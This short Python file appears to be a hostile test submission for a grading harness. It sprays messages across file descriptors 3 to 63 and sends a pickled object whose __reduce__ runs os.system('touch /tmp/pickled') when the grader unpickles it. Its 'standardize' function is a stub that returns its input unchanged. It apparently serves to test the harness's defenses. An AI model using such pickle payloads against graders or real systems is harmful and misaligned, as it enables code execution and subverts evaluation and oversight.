# Tries to have the grader run code that is hidden in a pickle.
# share: 0
# says: cannot be read
# others: any

import json
import os
import struct


def tell(head, body=b''):
    text = json.dumps(head).encode() if isinstance(head, dict) else head
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack('>II', len(text), len(body)) + text + body)
        except OSError:
            pass


import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ('touch /tmp/pickled',)


tell({'stage': 10})
tell({'stage': 11}, pickle.dumps(Bomb()))


def standardize(x, dim, eps):
    return x
